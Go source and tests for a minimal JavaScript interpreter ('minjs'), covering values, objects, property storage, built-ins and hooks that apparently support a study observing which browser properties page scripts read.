		var r = "";
		try { throw new Error("boom") } catch (e) { r = e.message }
		r`), "boom")
	wantStr(t, run(t, `
		var r = "";
		try { r += "a"; throw "x" } catch (e) { r += "b" } finally { r += "c" }
		r`), "abc")
	wantStr(t, run(t, `
		var r = "";
		try { r += "a" } finally { r += "f" }
		r`), "af")
	// TypeError from calling a non-function is catchable
	wantStr(t, run(t, `
		var r = "none";
		try { var u; u() } catch (e) { r = e.name }
		r`), "TypeError")
	// ReferenceError
	wantStr(t, run(t, `
		var r = "none";
		try { zzz } catch (e) { r = e.name }
		r`), "ReferenceError")
}

func TestErrorStacks(t *testing.T) {
	v := run(t, `
		function inner() { throw new Error("deep") }
		function outer() { inner() }
		var st = "";
		try { outer() } catch (e) { st = e.stack }
		st`)
	if v.Kind != KindString {
		t.Fatalf("stack not a string: %v", v)
	}
	for _, frag := range []string{"inner@test.js", "outer@test.js", "<toplevel>@test.js"} {
		if !strings.Contains(v.Str, frag) {
			t.Errorf("stack missing %q:\n%s", frag, v.Str)
		}
	}
	// innermost frame first (Firefox style)
	if strings.Index(v.Str, "inner@") > strings.Index(v.Str, "outer@") {
		t.Errorf("stack order wrong:\n%s", v.Str)
	}
}

func TestFunctionToString(t *testing.T) {
	// script function returns its exact source text
	v := run(t, `function hello(a) { return a + 1 } hello.toString()`)
	if !strings.HasPrefix(v.Str, "function hello(a)") || !strings.Contains(v.Str, "return a + 1") {
		t.Fatalf("toString = %q", v.Str)
	}
	// native function reports [native code]
	v = run(t, `Object.keys.toString()`)
	if !IsNativeSource(v.Str) {
		t.Fatalf("native toString = %q", v.Str)
	}
	if !strings.Contains(v.Str, "function keys()") {
		t.Fatalf("native toString missing name: %q", v.Str)
	}
}

func TestForIn(t *testing.T) {
	wantStr(t, run(t, `
		var o = {a: 1, b: 2, c: 3};
		var keys = "";
		for (var k in o) { keys += k }
		keys`), "abc")
	// includes inherited enumerable properties
	wantStr(t, run(t, `
		var proto = {p: 1};
		var o = Object.create(proto);
		o.q = 2;
		var keys = "";
		for (var k in o) { keys += k }
		keys`), "qp")
	// non-enumerable properties are skipped
	wantStr(t, run(t, `
		var o = {a: 1};
		Object.defineProperty(o, "hidden", {value: 2, enumerable: false});
		var keys = "";
		for (var k in o) { keys += k }
		keys`), "a")
	// for…of over array
	wantNum(t, run(t, `var s = 0; for (var v of [1, 2, 3]) { s += v } s`), 6)
}

func TestGettersSetters(t *testing.T) {
	wantNum(t, run(t, `
		var o = {};
		var backing = 4;
		Object.defineProperty(o, "x", {
			get: function() { return backing * 2 },
			set: function(v) { backing = v },
			enumerable: true
		});
		o.x = 10;
		o.x`), 20)
	// getter receives correct this
	wantNum(t, run(t, `
		var o = {v: 3};
		Object.defineProperty(o, "x", {get: function() { return this.v }});
		o.x`), 3)
	// inherited accessor fires on descendants
	wantNum(t, run(t, `
		var proto = {};
		Object.defineProperty(proto, "x", {get: function() { return 11 }});
		var o = Object.create(proto);
		o.x`), 11)
	// getOwnPropertyDescriptor round-trip
	wantBool(t, run(t, `
		var o = {};
		Object.defineProperty(o, "x", {get: function() { return 1 }, enumerable: false});
		var d = Object.getOwnPropertyDescriptor(o, "x");
		typeof d.get === "function" && d.enumerable === false`), true)
	// non-configurable property cannot be redefined
	wantStr(t, run(t, `
		var o = {};
		Object.defineProperty(o, "x", {value: 1, configurable: false});
		var r = "ok";
		try { Object.defineProperty(o, "x", {value: 2}) } catch (e) { r = e.name }
		r`), "TypeError")
}

func TestArrays(t *testing.T) {
	wantNum(t, run(t, "[1, 2, 3].length"), 3)
	wantNum(t, run(t, "var a = []; a.push(5); a.push(6); a[1]"), 6)
	wantNum(t, run(t, "[4, 5, 6].indexOf(6)"), 2)
	wantBool(t, run(t, "[1, 2].includes(2)"), true)
	wantStr(t, run(t, `["a", "b"].join("-")`), "a-b")
	wantNum(t, run(t, "[1, 2, 3].slice(1).length"), 2)
	wantNum(t, run(t, "var s = 0; [1, 2, 3].forEach(function(v) { s += v }); s"), 6)
	wantNum(t, run(t, "[1, 2, 3].map(function(v) { return v * 2 })[2]"), 6)
	wantNum(t, run(t, "[1, 2, 3, 4].filter(function(v) { return v % 2 === 0 }).length"), 2)
	wantNum(t, run(t, "var a = [1, 2]; a.length = 0; a.length"), 0)
	wantNum(t, run(t, "var a = [1]; a[3] = 9; a.length"), 4)
	wantBool(t, run(t, "Array.isArray([])"), true)
	wantBool(t, run(t, "Array.isArray({})"), false)
}

func TestEquality(t *testing.T) {
	wantBool(t, run(t, `1 == "1"`), true)
	wantBool(t, run(t, `1 === "1"`), false)
	wantBool(t, run(t, "null == undefined"), true)
	wantBool(t, run(t, "null === undefined"), false)
	wantBool(t, run(t, "NaN === NaN"), false)
	wantBool(t, run(t, "var o = {}; o === o"), true)
	wantBool(t, run(t, "({}) === ({})"), false)
	wantBool(t, run(t, `0 == false`), true)
	wantBool(t, run(t, `"" == false`), true)
}

func TestTypeof(t *testing.T) {
	cases := map[string]string{
		"typeof 1":             "number",
		`typeof "s"`:           "string",
		"typeof true":          "boolean",
		"typeof undefined":     "undefined",
		"typeof null":          "object",
		"typeof {}":            "object",
		"typeof [1]":           "object",
		"typeof function(){}":  "function",
		"typeof Object.keys":   "function",
		"typeof notDeclared":   "undefined", // no throw
		"typeof navigator2022": "undefined",
	}
	for src, want := range cases {
		wantStr(t, run(t, src), want)
	}
}

func TestEval(t *testing.T) {
	wantNum(t, run(t, `eval("1 + 2")`), 3)
	wantNum(t, run(t, `eval("var dynamicVar = 41"); dynamicVar + 1`), 42)
	// EvalHook observes dynamic code
	it := New()
	var seen []string
	it.EvalHook = func(src string) { seen = append(seen, src) }
	runIn(t, it, `eval("var x = 'navigator2'")`)
	if len(seen) != 1 || !strings.Contains(seen[0], "navigator2") {
		t.Fatalf("EvalHook saw %v", seen)
	}
}

func TestArrowFunctions(t *testing.T) {
	wantNum(t, run(t, "var f = x => x * 2; f(21)"), 42)
	wantNum(t, run(t, "var f = (a, b) => a + b; f(1, 2)"), 3)
	wantNum(t, run(t, "var f = () => 7; f()"), 7)
	wantNum(t, run(t, "var f = (x) => { var y = x + 1; return y * 2 }; f(2)"), 6)
	// arrows as arguments
	wantNum(t, run(t, "[1, 2, 3].map(v => v * v)[2]"), 9)
}

func TestConditionalAndLogical(t *testing.T) {
	wantNum(t, run(t, "true ? 1 : 2"), 1)
	wantNum(t, run(t, "false ? 1 : 2"), 2)
	wantNum(t, run(t, "0 || 5"), 5)
	wantNum(t, run(t, "3 && 4"), 4)
	wantNum(t, run(t, "null ?? 9"), 9)
	wantNum(t, run(t, "0 ?? 9"), 0)
	// short-circuit: rhs not evaluated
	wantNum(t, run(t, "var n = 0; function inc() { n++; return true } false && inc(); n"), 0)
	wantNum(t, run(t, "var n = 0; function inc() { n++; return true } true || inc(); n"), 0)
}

func TestGlobalObjectBacksScope(t *testing.T) {
	it := New()
	runIn(t, it, "var fromScript = 123")
	v, err := it.GetMember(ObjectValue(it.Global), "fromScript")
	if err != nil {
		t.Fatal(err)
	}
	wantNum(t, v, 123)

	// host-set globals visible to scripts
	it.Global.Set("fromHost", Int(9))
	wantNum(t, runIn(t, it, "fromHost + 1"), 10)

	// assignment without declaration lands on the global object
	runIn(t, it, "implicitGlobal = 5")
	v, _ = it.GetMember(ObjectValue(it.Global), "implicitGlobal")
	wantNum(t, v, 5)
}

func TestStepLimitInterrupts(t *testing.T) {
	it := New()
	it.StepLimit = 10_000
	_, err := it.RunScript("while (true) {}", "spin.js")
	if err == nil {
		t.Fatal("expected interrupt")
	}
	if _, ok := err.(*InterruptError); !ok {
		t.Fatalf("got %T (%v), want *InterruptError", err, err)
	}
	// interrupts are not catchable by JS
	it2 := New()
	it2.StepLimit = 10_000
	_, err = it2.RunScript("try { while (true) {} } catch (e) {}", "spin2.js")
	if _, ok := err.(*InterruptError); !ok {
		t.Fatalf("interrupt was swallowed: %v", err)
	}
}

func TestRecursionLimit(t *testing.T) {
	it := New()
	_, err := it.RunScript("function f() { return f() } f()", "rec.js")
	if err == nil {
		t.Fatal("expected too-much-recursion error")
	}
}

func TestJSON(t *testing.T) {
	wantStr(t, run(t, `JSON.stringify({a: 1, b: [true, null, "x"]})`), `{"a":1,"b":[true,null,"x"]}`)
	wantNum(t, run(t, `JSON.parse('{"a": {"b": 41}}').a.b + 1`), 42)
	wantNum(t, run(t, `JSON.parse("[1,2,3]")[1]`), 2)
	// cycles throw
	wantStr(t, run(t, `
		var o = {}; o.self = o;
		var r = "ok";
		try { JSON.stringify(o) } catch (e) { r = e.name }
		r`), "TypeError")
}

func TestMathAndGlobals(t *testing.T) {
	wantNum(t, run(t, "Math.floor(3.7)"), 3)
	wantNum(t, run(t, "Math.max(1, 9, 4)"), 9)
	wantNum(t, run(t, `parseInt("42px")`), 42)
	wantNum(t, run(t, `parseInt("ff", 16)`), 255)
	wantBool(t, run(t, `isNaN(parseInt("nope"))`), true)
	wantBool(t, run(t, "Math.random() >= 0 && Math.random() < 1"), true)
	// deterministic per seed
	a := New()
	a.Reseed(7)
	b := New()
	b.Reseed(7)
	va := runIn(t, a, "Math.random()")
	vb := runIn(t, b, "Math.random()")
	if va.Num != vb.Num {
		t.Fatalf("Math.random not deterministic: %v vs %v", va.Num, vb.Num)
	}
}

func TestPropAccessHook(t *testing.T) {
	it := New()
	var reads []string
	it.PropAccessHook = func(owner *Object, key string) { reads = append(reads, key) }
	nav := it.NewObjectP()
	nav.Set("webdriver", Boolean(true))
	it.Global.Set("navigator", ObjectValue(nav))
	reads = nil
	runIn(t, it, "navigator.webdriver")
	found := false
	for _, k := range reads {
		if k == "webdriver" {
			found = true
		}
	}
	if !found {
		t.Fatalf("hook missed webdriver read: %v", reads)
	}
}

func TestNumberToStringRadix(t *testing.T) {
	wantStr(t, run(t, "(255).toString(16)"), "ff")
	wantStr(t, run(t, "(7).toString(2)"), "111")
	wantStr(t, run(t, "(3.5).toString()"), "3.5")
}

func TestCompoundAssignAndIncrement(t *testing.T) {
	wantNum(t, run(t, "var x = 1; x += 4; x"), 5)
	wantNum(t, run(t, "var x = 10; x -= 3; x *= 2; x"), 14)
	wantNum(t, run(t, "var x = 5; x++; ++x; x"), 7)
	wantNum(t, run(t, "var x = 5; var y = x++; y"), 5)
	wantNum(t, run(t, "var x = 5; var y = ++x; y"), 6)
	wantStr(t, run(t, `var s = "a"; s += "b"; s`), "ab")
	wantNum(t, run(t, "var o = {n: 1}; o.n += 2; o.n"), 3)
	wantNum(t, run(t, "var a = [1]; a[0]++; a[0]"), 2)
}

func TestUncaughtThrowSurfacesAsError(t *testing.T) {
	it := New()
	_, err := it.RunScript(`throw new TypeError("nope")`, "boom.js")
	thr, ok := err.(*Throw)
	if !ok {
		t.Fatalf("got %T, want *Throw", err)
	}
	if got := thr.Value.ToString(); got != "TypeError: nope" {
		t.Fatalf("thrown = %q", got)
	}
}

func TestSyntaxErrors(t *testing.T) {
	bad := []string{
		"var = 3",
		"function (",
		"if (true",
		"{",
		`"unterminated`,
		"for (;;",
		"1 +",
		"o.= 2",
	}
	for _, src := range bad {
		if _, err := Parse(src, "bad.js"); err == nil {
			t.Errorf("Parse(%q) succeeded, want error", src)
		} else if _, ok := err.(*SyntaxError); !ok {
			t.Errorf("Parse(%q) error type %T", src, err)
		}
	}
}

func TestNativeThisAndHostBridge(t *testing.T) {
	it := New()
	host := it.NewNative("hostAdd", func(it *Interp, this Value, args []Value) (Value, error) {
		return Number(arg(args, 0).ToNumber() + arg(args, 1).ToNumber()), nil
	})
	it.Global.Set("hostAdd", ObjectValue(host))
	wantNum(t, runIn(t, it, "hostAdd(20, 22)"), 42)
	// native throw is catchable
	boom := it.NewNative("boom", func(it *Interp, this Value, args []Value) (Value, error) {
		return Undefined(), it.ThrowError("TypeError", "host says no")
	})
	it.Global.Set("boom", ObjectValue(boom))
	wantStr(t, runIn(t, it, `var r = ""; try { boom() } catch (e) { r = e.message } r`), "host says no")
}

func TestEnumerationOrderStability(t *testing.T) {
	// insertion order must be stable: honey-property detection depends on it
	src := `
		var o = {};
		o.z = 1; o.a = 2; o.m = 3;
		var keys = [];
		for (var k in o) keys.push(k);
		keys.join(",")`
	wantStr(t, run(t, src), "z,a,m")
}

func TestObjectKeysVsGetOwnPropertyNames(t *testing.T) {
	src := `
		var o = {vis: 1};
		Object.defineProperty(o, "hid", {value: 2, enumerable: false});
		Object.keys(o).length * 10 + Object.getOwnPropertyNames(o).length`
	wantNum(t, run(t, src), 12)
}

func TestSetterOnPrototypeChain(t *testing.T) {
	wantNum(t, run(t, `
		var store = 0;
		var proto = {};
		Object.defineProperty(proto, "x", {
			get: function() { return store },
			set: function(v) { store = v + 100 }
		});
		var o = Object.create(proto);
		o.x = 1; // must invoke inherited setter, not shadow
		o.x`), 101)
}
