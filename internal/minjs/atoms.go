package minjs

// atomTable interns strings during compilation. Every identifier, property
// name and declared variable in a compiled program becomes an index into one
// shared atoms slice, so the VM dispatches on int32 and the runtime compares
// interned strings (Go's string equality short-circuits on identical data
// pointers, which interning makes the common case).
type atomTable struct {
	idx   map[string]int32
	atoms []string
}

func newAtomTable() *atomTable {
	return &atomTable{idx: make(map[string]int32, 64)}
}

func (t *atomTable) intern(s string) int32 {
	if i, ok := t.idx[s]; ok {
		return i
	}
	i := int32(len(t.atoms))
	t.atoms = append(t.atoms, s)
	t.idx[s] = i
	return i
}
