package minjs

import (
	"math"
	"sort"
	"strconv"
	"strings"
)

// Kind enumerates the runtime value categories.
type Kind uint8

// Value kinds.
const (
	KindUndefined Kind = iota
	KindNull
	KindBool
	KindNumber
	KindString
	KindObject
)

func (k Kind) String() string {
	switch k {
	case KindUndefined:
		return "undefined"
	case KindNull:
		return "null"
	case KindBool:
		return "boolean"
	case KindNumber:
		return "number"
	case KindString:
		return "string"
	case KindObject:
		return "object"
	}
	return "invalid"
}

// Value is a JavaScript value. The zero Value is undefined. Field order is
// chosen for size: values are copied on every stack push, argument pass and
// property read, so the struct packs to 40 bytes.
type Value struct {
	Num  float64
	Str  string
	Obj  *Object
	Kind Kind
	Bool bool
}

// Undefined returns the undefined value.
func Undefined() Value { return Value{} }

// Null returns the null value.
func Null() Value { return Value{Kind: KindNull} }

// Boolean wraps a Go bool.
func Boolean(b bool) Value { return Value{Kind: KindBool, Bool: b} }

// Number wraps a Go float64.
func Number(f float64) Value { return Value{Kind: KindNumber, Num: f} }

// Int wraps a Go int as a JS number.
func Int(i int) Value { return Number(float64(i)) }

// String wraps a Go string.
func String(s string) Value { return Value{Kind: KindString, Str: s} }

// ObjectValue wraps an object pointer; a nil object yields null.
func ObjectValue(o *Object) Value {
	if o == nil {
		return Null()
	}
	return Value{Kind: KindObject, Obj: o}
}

// IsUndefined reports whether v is undefined.
func (v Value) IsUndefined() bool { return v.Kind == KindUndefined }

// IsNullish reports whether v is undefined or null.
func (v Value) IsNullish() bool { return v.Kind == KindUndefined || v.Kind == KindNull }

// IsObject reports whether v holds an object.
func (v Value) IsObject() bool { return v.Kind == KindObject }

// IsFunction reports whether v is a callable object.
func (v Value) IsFunction() bool {
	return v.Kind == KindObject && v.Obj != nil && v.Obj.fnd != nil &&
		(v.Obj.fnd.Fn != nil || v.Obj.fnd.Native != nil)
}

// Truthy implements ToBoolean.
func (v Value) Truthy() bool {
	switch v.Kind {
	case KindUndefined, KindNull:
		return false
	case KindBool:
		return v.Bool
	case KindNumber:
		return v.Num != 0 && !math.IsNaN(v.Num)
	case KindString:
		return v.Str != ""
	default:
		return true
	}
}

// TypeOf implements the typeof operator.
func (v Value) TypeOf() string {
	switch v.Kind {
	case KindUndefined:
		return "undefined"
	case KindNull:
		return "object"
	case KindBool:
		return "boolean"
	case KindNumber:
		return "number"
	case KindString:
		return "string"
	default:
		if v.IsFunction() {
			return "function"
		}
		return "object"
	}
}

// ToString implements a pragmatic ToString: objects use their class or
// function source, arrays join with commas.
func (v Value) ToString() string {
	switch v.Kind {
	case KindUndefined:
		return "undefined"
	case KindNull:
		return "null"
	case KindBool:
		if v.Bool {
			return "true"
		}
		return "false"
	case KindNumber:
		return numToString(v.Num)
	case KindString:
		return v.Str
	default:
		o := v.Obj
		if o == nil {
			return "null"
		}
		if o.fnd != nil && (o.fnd.Fn != nil || o.fnd.Native != nil) {
			return o.FunctionSource()
		}
		switch o.Class {
		case "Array":
			parts := make([]string, len(o.Elems))
			for i, e := range o.Elems {
				if !e.IsNullish() {
					parts[i] = e.ToString()
				}
			}
			return strings.Join(parts, ",")
		case "Error":
			name := "Error"
			if n, ok := o.lookupOwn("name"); ok && n.Value.Kind == KindString {
				name = n.Value.Str
			}
			msg := ""
			if m, ok := o.lookupOwn("message"); ok {
				msg = m.Value.ToString()
			}
			if msg == "" {
				return name
			}
			return name + ": " + msg
		}
		return "[object " + o.Class + "]"
	}
}

// ToNumber implements a pragmatic ToNumber.
func (v Value) ToNumber() float64 {
	switch v.Kind {
	case KindUndefined:
		return math.NaN()
	case KindNull:
		return 0
	case KindBool:
		if v.Bool {
			return 1
		}
		return 0
	case KindNumber:
		return v.Num
	case KindString:
		s := strings.TrimSpace(v.Str)
		if s == "" {
			return 0
		}
		f, err := strconv.ParseFloat(s, 64)
		if err != nil {
			return math.NaN()
		}
		return f
	default:
		// objects: use array-of-one / string content; else NaN
		return Value{Kind: KindString, Str: v.ToString()}.ToNumber()
	}
}

func numToString(f float64) string {
	if math.IsNaN(f) {
		return "NaN"
	}
	if math.IsInf(f, 1) {
		return "Infinity"
	}
	if math.IsInf(f, -1) {
		return "-Infinity"
	}
	if f == math.Trunc(f) && math.Abs(f) < 1e21 {
		return strconv.FormatFloat(f, 'f', -1, 64)
	}
	return strconv.FormatFloat(f, 'g', -1, 64)
}

// StrictEquals implements ===.
func StrictEquals(a, b Value) bool {
	if a.Kind != b.Kind {
		return false
	}
	switch a.Kind {
	case KindUndefined, KindNull:
		return true
	case KindBool:
		return a.Bool == b.Bool
	case KindNumber:
		return a.Num == b.Num // NaN !== NaN falls out naturally
	case KindString:
		return a.Str == b.Str
	default:
		return a.Obj == b.Obj
	}
}

// LooseEquals implements == with the common coercions.
func LooseEquals(a, b Value) bool {
	if a.Kind == b.Kind {
		return StrictEquals(a, b)
	}
	if a.IsNullish() && b.IsNullish() {
		return true
	}
	if a.IsNullish() || b.IsNullish() {
		return false
	}
	// number/string/bool cross-comparisons via ToNumber
	if a.Kind != KindObject && b.Kind != KindObject {
		return a.ToNumber() == b.ToNumber()
	}
	// object vs primitive: compare via ToString/ToNumber
	if a.Kind == KindObject {
		return LooseEquals(String(a.ToString()), b)
	}
	return LooseEquals(a, String(b.ToString()))
}

// NativeFunc is the host-function bridge signature. this is the receiver
// value, args the call arguments.
type NativeFunc func(it *Interp, this Value, args []Value) (Value, error)

// Property is a property slot: either a data property (Value) or an accessor
// (Get/Set). The flags mirror JS property attributes.
type Property struct {
	Value        Value
	Get, Set     *Object
	Accessor     bool
	Enumerable   bool
	Writable     bool
	Configurable bool
}

// Object is a JavaScript object: an ordered property map with a prototype
// link. Functions and arrays are Objects with extra slots.
type Object struct {
	Class string // "Object", "Function", "Array", "Error", or a host class name
	Proto *Object

	// Own properties live in one of two representations. Small objects —
	// the overwhelming majority of script-created ones — keep an
	// insertion-ordered slice scanned linearly; past smallPropsMax the
	// entries spill into the map + key-order slice. Lookup, definition
	// order and *Property pointer stability are identical in both modes.
	small []propEntry
	props map[string]*Property
	keys  []string // insertion order when props != nil, for for…in

	// chunk block-allocates Property slots for Set/SetNonEnum/DefineAccessor
	// so each new property does not cost its own heap object, and carries the
	// backing array for the small entry slice so a 1-4 property object makes
	// exactly one property-storage allocation. Pointers into a chunk stay
	// valid forever (chunks are never reused or grown).
	chunk     *propChunk
	chunkUsed uint8

	// fnd holds the callable-only slots, allocated once per function
	// object; the far more numerous plain objects pay one nil pointer.
	fnd *fnData

	// Array element storage (Class == "Array").
	Elems []Value

	// Host is an opaque pointer back to the host-side entity (DOM node,
	// browser, instrument channel, …).
	Host any

	// NotExtensible prevents adding new properties (Object.freeze-lite).
	NotExtensible bool

	// ver counts structural mutations (property add/replace/delete). The
	// VM's inline caches validate against it; in-place data writes through
	// Set's fast path keep the same *Property and do not bump it.
	ver uint32
}

// fnData is the function half of an Object: exactly one of Fn/Native is set
// for callables.
type fnData struct {
	Fn         *FuncLit // script function body
	Env        *Scope   // closure environment for script functions
	ThisVal    Value    // bound this for arrow functions / bind
	HasThisVal bool
	Native     NativeFunc // host function
	NativeName string     // name reported by native toString
	// ToStringOverride, when non-empty, is returned by
	// Function.prototype.toString instead of the real source. The stealth
	// instrumentation uses this to mimic exportFunction: the wrapper's
	// source text is indistinguishable from the native function's.
	ToStringOverride string
}

// funcObject co-allocates an Object with its fnData so creating a function
// costs a single heap object; fnd points at the embedded fd.
type funcObject struct {
	Object
	fd fnData
}

// NativeFnName returns the name a native function reports ("" for script
// functions and non-callables).
func (o *Object) NativeFnName() string {
	if o.fnd == nil {
		return ""
	}
	return o.fnd.NativeName
}

// SetToStringOverride replaces the text Function.prototype.toString reports
// for this callable.
func (o *Object) SetToStringOverride(src string) {
	if o.fnd != nil {
		o.fnd.ToStringOverride = src
	}
}

// NewObject returns a plain object with the given prototype. The property
// map is created lazily on first definition.
func NewObject(proto *Object) *Object {
	return &Object{Class: "Object", Proto: proto}
}

// NewArray returns an array object with the given elements.
func NewArray(proto *Object, elems ...Value) *Object {
	o := NewObject(proto)
	o.Class = "Array"
	o.Elems = append([]Value(nil), elems...)
	return o
}

// propEntry is one own property in the small (linear) representation.
type propEntry struct {
	key string
	p   *Property
}

// smallPropsMax is the linear-representation bound: at most this many own
// properties are scanned sequentially before spilling to the map. Interned
// atom keys make the string compares pointer-equality in the common case.
const smallPropsMax = 8

// propChunkLen is the Property block-allocation size.
const propChunkLen = 4

// propChunk is one block of property storage: slots for the Property values
// handed out by newProp, plus the initial backing array for the small entry
// slice, so defining the first few properties costs one allocation total.
type propChunk struct {
	slots   [propChunkLen]Property
	entries [propChunkLen]propEntry
}

// newProp returns a Property slot from o's current chunk, amortising
// propChunkLen property definitions per heap allocation.
func (o *Object) newProp(p Property) *Property {
	if o.chunk == nil || o.chunkUsed == propChunkLen {
		o.chunk = new(propChunk)
		o.chunkUsed = 0
	}
	sp := &o.chunk.slots[o.chunkUsed]
	o.chunkUsed++
	*sp = p
	return sp
}

// lookupOwn returns the own property named key.
func (o *Object) lookupOwn(key string) (*Property, bool) {
	if o.props != nil {
		p, ok := o.props[key]
		return p, ok
	}
	for i := range o.small {
		if o.small[i].key == key {
			return o.small[i].p, true
		}
	}
	return nil, false
}

// GetOwn returns the own property, or nil.
func (o *Object) GetOwn(key string) *Property {
	p, _ := o.lookupOwn(key)
	return p
}

// HasOwn reports whether o itself holds key (including array indices/length).
func (o *Object) HasOwn(key string) bool {
	if _, ok := o.lookupOwn(key); ok {
		return true
	}
	if o.Class == "Array" {
		if key == "length" {
			return true
		}
		if idx, ok := arrayIndex(key); ok && idx < len(o.Elems) {
			return true
		}
	}
	return false
}

// Has reports whether key is reachable on o or its prototype chain.
func (o *Object) Has(key string) bool {
	for cur := o; cur != nil; cur = cur.Proto {
		if cur.HasOwn(key) {
			return true
		}
	}
	return false
}

// FindProperty walks the prototype chain and returns the first object owning
// key along with its property slot.
func (o *Object) FindProperty(key string) (*Object, *Property) {
	for cur := o; cur != nil; cur = cur.Proto {
		if p, ok := cur.lookupOwn(key); ok {
			return cur, p
		}
	}
	return nil, nil
}

// Set defines or overwrites key as an enumerable, writable, configurable
// data property. Overwriting an existing plain data property reuses its
// slot in place — the hot path for repeated assignments.
func (o *Object) Set(key string, v Value) {
	if p, ok := o.lookupOwn(key); ok && !p.Accessor && p.Enumerable && p.Writable && p.Configurable {
		p.Value = v
		return
	}
	o.DefineProperty(key, o.newProp(Property{Value: v, Enumerable: true, Writable: true, Configurable: true}))
}

// SetNonEnum defines key as a non-enumerable data property; used for
// built-ins and prototype methods.
func (o *Object) SetNonEnum(key string, v Value) {
	o.DefineProperty(key, o.newProp(Property{Value: v, Enumerable: false, Writable: true, Configurable: true}))
}

// DefineProperty installs prop under key, preserving insertion order for
// first-time definitions.
func (o *Object) DefineProperty(key string, prop *Property) {
	o.ver++
	if o.props == nil {
		for i := range o.small {
			if o.small[i].key == key {
				o.small[i].p = prop
				return
			}
		}
		if len(o.small) < smallPropsMax {
			if o.small == nil {
				// seed the entry slice from the chunk's embedded backing
				// array; append spills to the heap past propChunkLen
				if o.chunk == nil {
					o.chunk = new(propChunk)
				}
				o.small = o.chunk.entries[:0:propChunkLen]
			}
			o.small = append(o.small, propEntry{key: key, p: prop})
			return
		}
		o.spill()
	}
	if _, exists := o.props[key]; !exists {
		o.keys = append(o.keys, key)
	}
	o.props[key] = prop
}

// spill migrates the small linear representation into the map form,
// preserving insertion order.
func (o *Object) spill() {
	o.props = make(map[string]*Property, 2*smallPropsMax)
	o.keys = make([]string, 0, 2*smallPropsMax)
	for _, e := range o.small {
		o.props[e.key] = e.p
		o.keys = append(o.keys, e.key)
	}
	o.small = nil
}

// DefineAccessor installs a getter/setter pair (either may be nil).
func (o *Object) DefineAccessor(key string, get, set *Object, enumerable bool) {
	o.DefineProperty(key, o.newProp(Property{Get: get, Set: set, Accessor: true, Enumerable: enumerable, Configurable: true}))
}

// Delete removes an own property; it reports whether the property existed.
func (o *Object) Delete(key string) bool {
	if o.props == nil {
		for i := range o.small {
			if o.small[i].key == key {
				o.small = append(o.small[:i:i], o.small[i+1:]...)
				o.ver++
				return true
			}
		}
		return false
	}
	if _, ok := o.props[key]; !ok {
		return false
	}
	delete(o.props, key)
	o.ver++
	for i, k := range o.keys {
		if k == key {
			o.keys = append(o.keys[:i:i], o.keys[i+1:]...)
			break
		}
	}
	return true
}

// OwnKeys returns own enumerable-and-not property names in insertion order;
// array objects report indices and length first.
func (o *Object) OwnKeys(enumerableOnly bool) []string {
	var out []string
	if o.Class == "Array" {
		for i := range o.Elems {
			out = append(out, strconv.Itoa(i))
		}
	}
	if o.props == nil {
		for i := range o.small {
			if enumerableOnly && !o.small[i].p.Enumerable {
				continue
			}
			out = append(out, o.small[i].key)
		}
		return out
	}
	for _, k := range o.keys {
		p := o.props[k]
		if p == nil {
			continue
		}
		if enumerableOnly && !p.Enumerable {
			continue
		}
		out = append(out, k)
	}
	return out
}

// EnumerateAll returns own + inherited enumerable property names in
// prototype-chain order, deduplicated; this is the for…in order.
func (o *Object) EnumerateAll() []string {
	seen := map[string]bool{}
	var out []string
	for cur := o; cur != nil; cur = cur.Proto {
		for _, k := range cur.OwnKeys(true) {
			if !seen[k] {
				seen[k] = true
				out = append(out, k)
			}
		}
	}
	return out
}

// SortedOwnKeys returns own property names sorted; handy for deterministic
// host-side inspection.
func (o *Object) SortedOwnKeys() []string {
	ks := o.OwnKeys(false)
	sort.Strings(ks)
	return ks
}

// FunctionSource returns the text Function.prototype.toString reports.
func (o *Object) FunctionSource() string {
	fd := o.fnd
	if fd == nil {
		return "function () { }"
	}
	if fd.ToStringOverride != "" {
		return fd.ToStringOverride
	}
	if fd.Native != nil {
		return NativeSource(fd.NativeName)
	}
	if fd.Fn != nil {
		if fd.Fn.SrcText != "" {
			return fd.Fn.SrcText
		}
		return "function " + fd.Fn.Name + "() { }"
	}
	return "function () { }"
}

// NativeSource formats the `[native code]` toString body for a function name.
func NativeSource(name string) string {
	return "function " + name + "() {\n    [native code]\n}"
}

// IsNativeSource reports whether src looks like a native-function toString.
func IsNativeSource(src string) bool {
	return strings.Contains(src, "[native code]")
}

func arrayIndex(key string) (int, bool) {
	if key == "" {
		return 0, false
	}
	for i := 0; i < len(key); i++ {
		if key[i] < '0' || key[i] > '9' {
			return 0, false
		}
	}
	n, err := strconv.Atoi(key)
	if err != nil || n < 0 {
		return 0, false
	}
	return n, true
}
