package minjs

import (
	"fmt"
	"math"
	"math/rand"
	"sort"
	"strconv"
	"strings"
)

func arg(args []Value, i int) Value {
	if i < len(args) {
		return args[i]
	}
	return Undefined()
}

// installBuiltins populates the realm's global object with the standard
// library subset used by the study's scripts.
func installBuiltins(it *Interp) {
	g := it.Global

	// Function.prototype
	fp := it.Protos.Function
	fp.SetNonEnum("toString", ObjectValue(it.NewNative("toString", func(it *Interp, this Value, args []Value) (Value, error) {
		if !this.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "Function.prototype.toString requires a function")
		}
		return String(this.Obj.FunctionSource()), nil
	})))
	fp.SetNonEnum("call", ObjectValue(it.NewNative("call", func(it *Interp, this Value, args []Value) (Value, error) {
		if !this.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "call requires a function")
		}
		var rest []Value
		if len(args) > 1 {
			rest = args[1:]
		}
		return it.CallFunction(this.Obj, arg(args, 0), rest)
	})))
	fp.SetNonEnum("apply", ObjectValue(it.NewNative("apply", func(it *Interp, this Value, args []Value) (Value, error) {
		if !this.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "apply requires a function")
		}
		var rest []Value
		if len(args) > 1 && args[1].IsObject() && args[1].Obj.Class == "Array" {
			rest = args[1].Obj.Elems
		}
		return it.CallFunction(this.Obj, arg(args, 0), rest)
	})))
	fp.SetNonEnum("bind", ObjectValue(it.NewNative("bind", func(it *Interp, this Value, args []Value) (Value, error) {
		if !this.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "bind requires a function")
		}
		target := this.Obj
		boundThis := arg(args, 0)
		pre := append([]Value(nil), args[1:]...)
		name := "bound"
		if nv, err := it.GetMember(this, "name"); err == nil && nv.Kind == KindString {
			name = "bound " + nv.Str
		}
		b := it.NewNative(name, func(it *Interp, _ Value, callArgs []Value) (Value, error) {
			return it.CallFunction(target, boundThis, append(append([]Value(nil), pre...), callArgs...))
		})
		return ObjectValue(b), nil
	})))

	// Object.prototype
